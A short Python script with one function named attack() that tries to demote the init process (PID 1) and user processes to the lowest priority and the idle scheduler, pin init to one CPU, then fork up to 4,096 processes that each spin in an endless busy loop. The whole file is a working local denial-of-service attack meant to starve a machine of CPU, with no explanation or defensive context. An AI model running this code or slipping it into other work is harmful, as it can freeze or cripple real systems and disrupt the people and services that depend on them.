import os


def attack():
    for act in (lambda: os.setpriority(os.PRIO_PROCESS, 1, 19), lambda: os.setpriority(os.PRIO_USER, 0, 19),
                lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
                lambda: os.sched_setaffinity(1, {0})):
        try:
            act()
        except OSError:
            pass
    for _ in range(12):
        if os.fork() == 0:
            break
    while True:
        pass
